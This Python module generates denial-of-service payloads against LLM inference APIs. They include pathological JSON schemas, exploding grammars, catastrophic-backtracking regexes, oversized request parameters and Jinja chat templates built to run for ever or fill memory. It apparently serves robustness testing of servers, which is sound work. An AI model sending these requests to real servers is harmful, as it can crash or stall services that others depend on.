"""Requests and templates that are made to kill a server, to hold it up, or to fill its memory."""

from collections.abc import Callable, Iterator
from typing import Any

CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"
HELLO = {"messages": [{"role": "user", "content": "Hello"}], "max_tokens": 2}
Body = dict[str, Any]
Attack = tuple[str, Callable[[], Body]]  # path, body


def chain(length: int, step: Callable[[str], Body], *, last: Body | None = None) -> Body:
    """Return a schema of definitions each of which `step` makes from a reference to the next one."""
    definitions = {f"d{i}": step(f"#/$defs/d{i + 1}") for i in range(length)}
    return {"$defs": {**definitions, f"d{length}": last or {"type": "null"}}, "$ref": "#/$defs/d0"}


def property_of(reference: str) -> Body:
    return {"type": "object", "properties": {"a": {"$ref": reference}}}


def any_of(reference: str) -> Body:
    return {"anyOf": [{"$ref": reference}, {"type": "integer"}]}


def all_of(reference: str) -> Body:
    return {"allOf": [{"$ref": reference}, {}]}


def nested(depth: int, step: Callable[[Any], Any], value: Any) -> Any:
    for _ in range(depth):
        value = step(value)
    return value


def choices(count: int) -> list[Body]:
    return [
        {
            "anyOf": [
                {"properties": {f"a{i}": {"type": "string"}}},
                {"properties": {f"b{i}": {"type": "null"}}},
            ]
        }
        for i in range(count)
    ]


def schemas() -> dict[str, Callable[[], Any]]:
    """Return JSON schemas by name."""
    text, number = {"type": "string"}, {"type": "integer"}
    return {
        "1,000 references through properties": lambda: chain(1000, property_of),
        "2,000 references through properties": lambda: chain(2000, property_of),
        "20,000 references through properties": lambda: chain(20000, property_of),
        "300 references through anyOf": lambda: chain(300, any_of),
        "500 references through anyOf": lambda: chain(500, any_of),
        "199 references through anyOf": lambda: chain(199, any_of),
        "500 references through allOf": lambda: chain(500, all_of),
        "199 references through allOf": lambda: chain(199, all_of),
        "199 references through oneOf": lambda: chain(199, lambda r: {"oneOf": [{"$ref": r}, number]}),
        "199 references through items": lambda: chain(199, lambda r: {"type": "array", "items": {"$ref": r}}),
        "199 references through prefixItems": lambda: chain(
            199, lambda r: {"type": "array", "prefixItems": [{"$ref": r}, {"$ref": r}]}
        ),
        "199 references, two each": lambda: chain(
            199, lambda r: {"type": "object", "properties": {"a": {"$ref": r}, "b": {"$ref": r}}}
        ),
        "40 references, anyOf of the same two": lambda: chain(
            40, lambda r: {"anyOf": [{"$ref": r}, {"$ref": r}]}
        ),
        "40 references, allOf of the same two": lambda: chain(
            40, lambda r: {"allOf": [{"$ref": r}, {"$ref": r}]}, last=text
        ),
        "30 references, allOf and anyOf": lambda: chain(
            30, lambda r: {"allOf": [{"anyOf": [{"$ref": r}, text]}, {"anyOf": [{"$ref": r}, number]}]}
        ),
        "a ring of 900": lambda: chain(900, property_of, last={"$ref": "#/$defs/d0"}),
        "a ring of 150 in allOf": lambda: chain(150, all_of, last={"$ref": "#/$defs/d0"}),
        "references to references": lambda: chain(900, lambda r: {"$ref": r}),
        "every definition refers to all": lambda: {
            "$defs": {
                f"d{i}": {"anyOf": [{"$ref": f"#/$defs/d{j}"} for j in range(100)]} for i in range(100)
            },
            "$ref": "#/$defs/d0",
        },
        "every definition holds all": lambda: {
            "$defs": {
                f"d{i}": {
                    "type": "object",
                    "properties": {f"p{j}": {"$ref": f"#/$defs/d{j}"} for j in range(60)},
                }
                for i in range(60)
            },
            "$ref": "#/$defs/d0",
        },
        "a reference into a property 90 deep": lambda: {
            "properties": {"a": nested(90, lambda v: {"properties": {"a": v}}, {"$ref": "#/properties/a"})}
        },
        "8 choices of two combined": lambda: {"allOf": choices(8)},
        "9 choices of two combined": lambda: {"allOf": choices(9)},
        "16 choices of two combined": lambda: {"allOf": choices(16)},
        "40 choices of two combined": lambda: {"allOf": choices(40)},
        "1,000 alternatives": lambda: {
            "anyOf": [{"properties": {f"p{i}": {"const": i}}, "required": [f"p{i}"]} for i in range(1000)]
        },
        "10,000 enumerated": lambda: {"enum": [f"value {i * 7919} of many" for i in range(10000)]},
        "100,000 enumerated": lambda: {"enum": [f"value {i * 7919} of many" for i in range(100000)]},
        "5,000 properties": lambda: {"type": "object", "properties": {f"p{i}": text for i in range(5000)}},
        "1,000 required": lambda: {
            "type": "object",
            "properties": {f"p{i}": text for i in range(1000)},
            "required": [f"p{i}" for i in range(1000)],
        },
        "20,000 properties": lambda: {"type": "object", "properties": {f"p{i}": text for i in range(20000)}},
        "a name of 2 MB": lambda: {"type": "object", "properties": {"n" * 2_000_000: text}},
        "nested arrays of 10,000": lambda: nested(
            6, lambda v: {"type": "array", "items": v, "minItems": 10000, "maxItems": 10000}, text
        ),
        "nested arrays of 0 to 9,999": lambda: nested(
            20, lambda v: {"type": "array", "items": v, "minItems": 0, "maxItems": 9999}, text
        ),
        "a string of 10^9": lambda: {"type": "string", "minLength": 10**9, "maxLength": 10**9},
        "a string of up to 10^18": lambda: {"type": "string", "maxLength": 10**18},
        "multiples of 10^-300": lambda: {"type": "number", "multipleOf": 1e-300},
        "multiples of a large prime": lambda: {"type": "integer", "multipleOf": 2**61 - 1},
        "bounds of 300 digits": lambda: {"type": "integer", "minimum": 10**300, "maximum": 10**301},
        "300 patterns": lambda: {
            "type": "object",
            "properties": {
                f"p{i}": {"type": "string", "pattern": f"^(a|b)*a(a|b){{{i}}}$"} for i in range(300)
            },
        },
        "a pattern that repeats a repetition": lambda: {
            "type": "string",
            "pattern": "^((a{1,99}){1,99}){1,99}$",
        },
        "patternProperties": lambda: {
            "type": "object",
            "patternProperties": {f"^(x|y)*z(x|y){{{i}}}$": {"type": "null"} for i in range(60)},
        },
        "not of not": lambda: nested(95, lambda v: {"not": v}, text),
        "if, then, else": lambda: nested(24, lambda v: {"if": v, "then": v, "else": text}, text),
    }


def grammars() -> dict[str, Callable[[], str]]:
    """Return grammars in GBNF and Lark by name."""

    def rules(count: int, body: Callable[[int], str], last: str = '"b"', mark: str = "::=") -> str:
        start = "root" if mark == "::=" else "start"
        lines = [
            f"{start} {mark} r0",
            *(f"r{i} {mark} {body(i)}" for i in range(count)),
            f"r{count} {mark} {last}",
        ]
        return "\n".join(lines)

    return {
        "4,000 rules in a row": lambda: rules(4000, lambda i: f'"a" r{i + 1}'),
        "20,000 rules in a row": lambda: rules(20000, lambda i: f'"a" r{i + 1}'),
        "50,000 rules in a row": lambda: rules(50000, lambda i: f'"a" r{i + 1}'),
        "199 rules in a row": lambda: rules(199, lambda i: f'"a" r{i + 1}'),
        "3,900 rules side by side": lambda: (
            "root ::= "
            + " | ".join(f"r{i}" for i in range(3900))
            + "\n"
            + "\n".join(f'r{i} ::= "a{i}"' for i in range(3900))
        ),
        "2^60 by doubling": lambda: rules(60, lambda i: f"r{i + 1} r{i + 1}"),
        "2^60 alternatives": lambda: rules(60, lambda i: f'"x" r{i + 1} | "y" r{i + 1} | r{i + 1} r{i + 1}'),
        "repetitions of repetitions": lambda: rules(8, lambda i: f"r{i + 1}{{100}}"),
        "ten thousand times": lambda: 'root ::= ("a" | "b"){10000}',
        "a million times": lambda: 'root ::= "a"{1000000}',
        "all ambiguous": lambda: 'root ::= e\ne ::= e e | e e e | "a" | ""',
        "empty for ever": lambda: 'root ::= e\ne ::= (("" | "")* | e)*',
        "left recursion": lambda: 'root ::= root "a" | root root "b" | "c"',
        "brackets 5,000 deep": lambda: "root ::= " + "(" * 5000 + '"a"' + ")" * 5000,
        "brackets 90 deep": lambda: "root ::= " + "(" * 90 + '"a"' + ")*" * 90,
        "10 MB": lambda: 'root ::= "a"\n' + "# comment\n" * 1_000_000,
        "1 MB of one literal": lambda: 'root ::= "' + "a" * 1_000_000 + '"',
        "a class of 60,000": lambda: "root ::= [" + "".join(map(chr, range(0x4E00, 0x9FFF))) * 3 + "]*",
        "no end of a string": lambda: 'root ::= "' + "\\\\" * 200_000,
        "lark, 4,000 rules in a row": lambda: rules(4000, lambda i: f'"a" r{i + 1}', mark=":"),
        "lark, 199 terminals in a row": lambda: (
            "start: T0\n" + "\n".join(f'T{i}: "a" T{i + 1}' for i in range(199)) + '\nT199: "b"'
        ),
        "lark, terminals that double": lambda: (
            "start: T0\n" + "\n".join(f"T{i}: T{i + 1} T{i + 1}" for i in range(40)) + '\nT40: "b"'
        ),
        "lark, a regular expression that explodes": lambda: "start: /(a|b)*a(a|b){22}(a|b|c)*c(a|b|c){18}/",
        "lark, 200 expressions that explode": lambda: (
            "start: "
            + " | ".join(f"t{i}" for i in range(200))
            + "\n"
            + "\n".join(f"t{i}: /(a|b)*a(a|b){{{i % 20 + 8}}}{i}/" for i in range(200))
        ),
        "lark, a schema inside": lambda: (
            'start: %json {"anyOf": [' + ", ".join(f'{{"const": {i}}}' for i in range(3000)) + "]}"
        ),
        "lark, an intersection that explodes": lambda: (
            "start: T\nT: /(.*a.{14}b.*)/ & /(.*b.{15}a.*)/ & /(.*c.{13}d.*)/"
        ),
        "lark, a complement that explodes": lambda: "start: T\nT: ~/(.*a.{18})/ & ~/(.*b.{19})/",
    }


def expressions() -> dict[str, Callable[[], str]]:
    """Return regular expressions by name."""
    return {
        "10,000 alternatives": lambda: "|".join(f"choice {i}" for i in range(10000)),
        "200,000 alternatives": lambda: "|".join(f"choice {i}" for i in range(200000)),
        "1,000 times 1,000": lambda: "(a{1,1000}){1,1000}",
        "three times 100": lambda: "((a{0,100}){0,100}){0,100}",
        "2^22 states": lambda: "(a|b)*a(a|b){22}",
        "2^60 states": lambda: "(.*x.{60}y.*)",
        "forty wild cards": lambda: "(.*a){40}",
        "500 words": lambda: r"(\w+\s?){1,500}x",
        "classes of all letters": lambda: r"[\p{L}\p{N}\p{P}]{1,2000}",
        "brackets 300 deep": lambda: "(" * 300 + "a" + ")" * 300,
        "brackets 95 deep, repeated": lambda: "(" * 95 + "a" + "){1,3}" * 95,
        "optional 5,000 times": lambda: "a?" * 5000 + "a" * 5000,
        "900 kB": lambda: "[ab]c?" * 150_000,
    }


def tools(count: int, parameters: Body) -> Body:
    functions = [{"name": f"tool{i}", "strict": True, "parameters": parameters} for i in range(count)]
    return {
        "tools": [{"type": "function", "function": each} for each in functions],
        "tool_choice": "required",
    }


def others() -> dict[str, tuple[str, Callable[[], Body]]]:
    """Return what is no grammar by itself."""
    wide = {"type": "object", "properties": {f"p{i}": {"type": "string"} for i in range(200)}}

    def values(count: int) -> dict[str, Body]:
        return {f"k{i}": {"a": i} for i in range(count)}

    return {
        "100,000 choices": (CHAT, lambda: HELLO | {"guided_choice": [f"c{i}" for i in range(100_000)]}),
        "2,000 tools of 200 parameters": (CHAT, lambda: HELLO | tools(2000, wide)),
        "40 tools of 200 parameters": (CHAT, lambda: HELLO | tools(40, wide)),
        "a tool of 1,000 references": (
            CHAT,
            lambda: HELLO | tools(1, chain(1000, property_of) | {"type": "object"}),
        ),
        "a tool whose parameters are an array": (CHAT, lambda: HELLO | tools(1, {"type": "array"})),
        "top_k of 2^63": (CHAT, lambda: HELLO | {"top_k": 2**63}),
        "top_k of 10^300": (CHAT, lambda: HELLO | {"top_k": 10**300}),
        "max_tokens of 2^70": (CHAT, lambda: HELLO | {"max_tokens": 2**70, "stop": ["e", "a"]}),
        "thinking_budget of 2^70": (CHAT, lambda: HELLO | {"thinking_budget": 2**70}),
        "280,000 template options": (
            CHAT,
            lambda: HELLO | {"chat_template_kwargs": dict.fromkeys(map(str, range(280_000)), 1)},
        ),
        "template options inside": (CHAT, lambda: HELLO | {"chat_template_kwargs": {"x": values(50_000)}}),
        "a role of 5 MB": (CHAT, lambda: {"messages": [{"role": "r" * 5_000_000, "content": "x"}]}),
        "a switch that is a list": (
            CHAT,
            lambda: HELLO | {"chat_template_kwargs": {"enable_thinking": ["x" * 500_000]}},
        ),
        "an effort of 5 MB": (CHAT, lambda: HELLO | {"reasoning_effort": "e" * 5_000_000}),
        "a name of 5 MB": (CHAT, lambda: HELLO | {"tool_choice": "t" * 5_000_000, **tools(1, wide)}),
        "responses, a format of 1,000 references": (
            RESPONSES,
            lambda: {
                "input": "x",
                "max_output_tokens": 2,
                "text": {"format": {"type": "json_schema", "name": "x", "schema": chain(1000, property_of)}},
            },
        ),
        "messages, a format of 500 anyOf": (
            MESSAGES,
            lambda: (
                HELLO | {"output_config": {"format": {"type": "json_schema", "schema": chain(500, any_of)}}}
            ),
        ),
        "Ollama, a format of 500 anyOf": (
            "/api/chat",
            lambda: {**HELLO, "stream": False, "format": chain(500, any_of)},
        ),
        "legacy completion, 4,000 rules": (
            "/v1/completions",
            lambda: {"prompt": "x", "max_tokens": 2, "grammar": grammars()["4,000 rules in a row"]()},
        ),
    }


def attacks() -> dict[str, Attack]:
    """Return path and body of every request."""

    def with_schema(make: Callable[[], Any]) -> Callable[[], Body]:
        form = {"type": "json_schema"}
        return lambda: HELLO | {"response_format": form | {"json_schema": {"name": "x", "schema": make()}}}

    def with_field(field: str, make: Callable[[], Any]) -> Callable[[], Body]:
        return lambda: HELLO | {field: make()}

    return {
        **{f"schema: {name}": (CHAT, with_schema(make)) for name, make in schemas().items()},
        **{f"grammar: {name}": (CHAT, with_field("grammar", make)) for name, make in grammars().items()},
        **{
            f"regex: {name}": (CHAT, with_field("guided_regex", make)) for name, make in expressions().items()
        },
        **others(),
    }


def templates() -> Iterator[str]:
    """Yield chat templates that work for ever or fill the memory, if nothing stops them."""
    double = "{% set x=namespace(l=[1]) %}{% for i in range(40) %}{% set x.l=STEP %}{% endfor %}"
    for step in (
        "[x.l,x.l]",
        "[x.l]+[x.l]",
        "[x.l]*2",
        "(x.l,x.l)",
        "{'a':x.l,'b':x.l}",
        "[x.l|list,x.l|list]",
    ):
        for use in (
            "x.l",
            "x.l|string",
            "x.l|tojson",
            "x.l|pprint",
            "x.l == x.l|list",
            "'%s' % x.l",
            "'a' ~ x.l",
        ):
            yield double.replace("STEP", step) + "{{ " + use + " }}"
    grow = "{% set x=namespace(s='\"') %}{% for i in range(60) %}{% set x.s=x.s|FILTER %}{% endfor %}"
    for filters in ("tojson", "upper|tojson", "string|tojson", "e|string|tojson", "tojson|safe|string"):
        yield grow.replace("FILTER", filters)
    yield from (
        "{{ ('x '*10000000)|title|length }}",
        "{{ ('a'*10**6).translate({97:'b'*10**6}) }}",
        "{% set a=[[1]*10**7]*10**7 %}{{ a|length }}",
        "{{ " + ".".join("a" * 50000) + " }}",
        "{{ " + "+".join("1" * 50000) + " }}",
        "{{ " + "(" * 50000 + " }}",
        "{{a}}" * 40000,
        "{{ ('a'*60000000).split('a')|length }}",
        "{{ ('a '*60000000).split()|length }}",
        "{{ ('a'*1000000000).swapcase() }}",
        "{{ (1).to_bytes(3000000000, 'big') }}",
        "{{ 'a'.join('b'*50000000)|length }}",
        "{{ ([[1]]*100000)|sum(start=[])|length }}",
        "{{ ('<!--'*1000000)|striptags }}",
        "{{ ('www.'*1000000)|urlize }}",
        "{{ ('a'*1000000)|wordwrap(1) }}",
        "{{ raise_exception([[1]*10**6]*10**6) }}",
        "{% for i in range(99999) %}{% set x = 7**20000 %}{% endfor %}",
        "{% for i in range(99999) %}{% for j in range(99999) %}{{ i }}{% endfor %}{% endfor %}",
        "{% set x=namespace(s='a') %}{% for i in range(40) %}{% set x.s %}{{x.s}}{{x.s}}{% endset %}"
        "{% endfor %}",
    )
